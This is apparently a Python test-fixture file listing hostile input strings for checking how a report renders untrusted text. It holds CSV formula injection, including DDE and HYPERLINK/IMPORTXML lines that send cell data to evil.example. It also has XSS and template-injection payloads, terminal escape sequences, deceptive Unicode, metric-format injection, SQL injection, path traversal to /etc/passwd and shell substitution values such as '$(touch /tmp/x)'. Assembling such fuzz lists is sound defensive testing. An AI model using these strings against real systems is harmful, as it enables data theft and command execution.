"""What strangers may write into a report, for every medium that shows it: one list for all tests."""

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1', "'=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "a;=1+1", 'a;"=1+1', "a,=1+1", "a\t=1+1", "a\n=1+1", 'x",=1+1,"y', "DDE(\"cmd\";\"/C calc\";\"x\")",
]
MARKUP = [
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "' onmouseover='alert(1)", "<!--", "--><b>", "]]>",
    "&lt;b&gt;", "&amp;", "<style>*{display:none}</style>", "<base href=//evil.example>", "<iframe src=//evil.example>",
    "{{7*7}}", "${7*7}", "</svg><script>alert(1)</script>", "url(//evil.example)", "expression(alert(1))", "<a href=//evil.example>x",
]
TERMINAL = [
    "\x1b[31mred", "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\x9d0;x\x9c", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x08\x08\x08over", "\r\x1b[Kgone", "\x7f", "\x1bP$q\x1b\\", "\x0e\x0f", "bell\x07",
]
UNICODE = [
    "\u202egpj.exe", "\u2066x\u2069", "\u200bzero\u200bwidth", "\u2028line", "\u2029para", "\ufeffbom", "\U000e0041tag", "\u0000x".replace("\0", ""),
    "a\u0301\u0302\u0303\u0304\u0305\u0306", "日本語", "𝕒𝕓𝕔", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "аpple.com", "\ufffd", "\uffff",
    "\u00a0=1", "ﷺ", "ẞ", "İ", "\u061c",
]
METRICS = ['a"} 1\ntlsrpt_evil_total 666', 'x\\', 'x\\"', "a\nb 1", "# HELP evil", 'evil="1",b="', "{", "}", "\\n", "NaN"]
OTHER = [
    "'; DROP TABLE report;--", "{\"a\",NULL}", "\\x00", "%s%n%s", "%00", "../../../../etc/passwd", "$(touch /tmp/x)", "`id`", "|id", "a|b;c=1",
    "NULL", "null", "", " ", "-", "--help", "0", "1e999", "true", "[]", "x" * 200, "a b  c", "C:\\", "\\\\evil\\share", "%PATH%", "con",
]
STRINGS = list(dict.fromkeys(FORMULAS + MARKUP + TERMINAL + UNICODE + METRICS + OTHER))


def names(count):
    """So many different ones: each of them alone, then joined with others; never empty."""
    made = [text for text in STRINGS if text.strip()]
    step = 0
    while len(made) < count:
        step += 1
        made += [f"{a}{b}" for a, b in zip(STRINGS, STRINGS[step:] + STRINGS[:step]) if (a + b).strip()]
        made = list(dict.fromkeys(made))
    return made[:count]
